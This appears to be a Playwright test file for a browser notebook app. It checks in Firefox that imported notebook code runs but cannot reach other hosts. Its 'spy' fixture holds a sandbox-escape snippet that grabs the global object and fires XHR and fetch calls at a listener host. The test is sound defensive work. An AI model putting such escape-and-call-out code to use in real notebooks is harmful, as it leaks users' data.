import { mkdirSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { test as base, expect } from '@playwright/test';
import { findFirefox } from './find-firefox';
import { type FirefoxPage, firefoxPage } from './firefox-page';
import { listener } from './listener';

const program = findFirefox();

/** The app in Firefox; it fails its test when it logs an error or asks anything of another host. */
const test = base.extend<{ firefox: FirefoxPage }>({
  firefox: async ({ baseURL }, use, testInfo) => {
    const profile = testInfo.outputPath('profile');
    mkdirSync(profile, { recursive: true });
    const firefox = await firefoxPage(program!, profile);
    await firefox.goto(baseURL!);
    await seen(firefox, button('Where do users drop out?'));
    await use(firefox);
    const strangers = firefox.asked.filter((url) => !/^(data|blob):/.test(url) && !url.startsWith(baseURL!)); // prettier-ignore
    await firefox.close();
    // What a policy stopped is told as an error too: code that was meant to be stopped.
    const wrongs = firefox.wrongs.filter((text) => !text.startsWith('Content-Security-Policy'));
    expect([...wrongs, ...strangers]).toEqual([]);
  },
});

test.skip(program === null, 'no Firefox here');

test('a question of the welcome page is answered in Firefox', async ({ firefox }) => {
  await firefox.click(button('Did my test win?'));
  await seen(firefox, withText('.answer', 'Ship treatment.'));
  await seen(firefox, withText('h1', 'Checkout test'));
  await seen(firefox, `document.querySelector('figure')`);
  await firefox.evaluate(`document.querySelector('figure').scrollIntoView()`);
  await seen(firefox, `document.querySelector('figure svg.marks')`);
});

test('a file is imported in Firefox, and code over another runs and reaches nobody', async ({
  firefox,
}, testInfo) => {
  const path = (name: string): string => testInfo.outputPath(name);
  await writeFile(path('people.csv'), PEOPLE);
  await drop(firefox, [path('people.csv')]);
  await seen(firefox, withText('[role="tabpanel"]', '200 rows'));
  await seen(firefox, button('Use these and run the A/B test'));

  const spy = await listener();
  await writeFile(path('sales.csv'), 'who,shop,amount\nann,A,10\nbob,B,20\ncid,B,40\n');
  await writeFile(path('own.lift.md'), notebook(spy.host));
  await drop(firefox, [path('sales.csv'), path('own.lift.md')]);
  await seen(firefox, withText('[data-cell="sales"]', '3 rows'));
  await seen(firefox, button('Run this notebook’s code'));
  await firefox.click(button('Run this notebook’s code'));
  await seen(firefox, withText('[data-cell="total"] pre', '70'));
  await seen(firefox, withText('[data-cell="spy"] pre', 'refused'));
  expect(firefox.wrongs.filter((text) => text.includes(spy.host))).toHaveLength(2);
  expect(spy.heard).toEqual([]);
  await fetch(`http://${spy.host}/control`);
  expect(spy.heard).toEqual(['http /control']);
  spy.close();
});

const PEOPLE = `user_id,version,bought
${Array.from({ length: 200 }, (_, i) => `u${i},${i % 2 ? 'treatment' : 'control'},${i % 7 ? 0 : 1}`).join('\n')}
`;

/** Code that adds up, and code that tries to tell somebody. */
function notebook(host: string): string {
  return `\`\`\`json lift:notebook
{ "liftbook": 1, "timezone": "UTC" }
\`\`\`

\`\`\`json lift:source sales
{ "file": "sales.csv" }
\`\`\`

\`\`\`js lift:transform total
sales.rollup({ total: aq.op.sum('amount') }).get('total', 0)
\`\`\`

\`\`\`js lift:transform spy
const out = [].at.constructor('return this')();
const ask = () => { const x = new out.XMLHttpRequest(); x.open('GET', 'http://${host}/xhr', false); x.send(); };
const told = () => { try { ask(); return 'got out'; } catch { return 'refused'; } };
out.fetch('http://${host}/fetch').catch(() => {});
told()
\`\`\`
`;
}

/** Drops files on the page, as from the desktop. */
async function drop(firefox: FirefoxPage, files: readonly string[]): Promise<void> {
  const input = `document.querySelector('#files-to-drop')`;
  await firefox.evaluate(`void document.body.append(Object.assign(document.createElement('input'),
    { type: 'file', multiple: true, id: 'files-to-drop', hidden: true }))`);
  await firefox.setFiles(input, files);
  await firefox.evaluate(`(() => {
    const dataTransfer = new DataTransfer();
    for (const file of ${input}.files) dataTransfer.items.add(file);
    ${input}.remove();
    for (const type of ['dragenter', 'dragover', 'drop'])
      document.body.dispatchEvent(new DragEvent(type, { dataTransfer, bubbles: true, cancelable: true }));
  })()`);
}

/** Waits until the page has what `expression` gives. */
async function seen(firefox: FirefoxPage, expression: string): Promise<void> {
  await expect.poll(() => firefox.evaluate(`Boolean(${expression})`), expression).toBe(true);
}

/** An expression for the button whose words begin so. */
function button(words: string): string {
  return `[...document.querySelectorAll('button')].find((each) => each.innerText.trim().startsWith(${JSON.stringify(words)}))`;
}

/** An expression for an element that fits `selector` and has those words. */
function withText(selector: string, words: string): string {
  return `[...document.querySelectorAll(${JSON.stringify(selector)})].find((each) => each.innerText?.includes(${JSON.stringify(words)}))`;
}
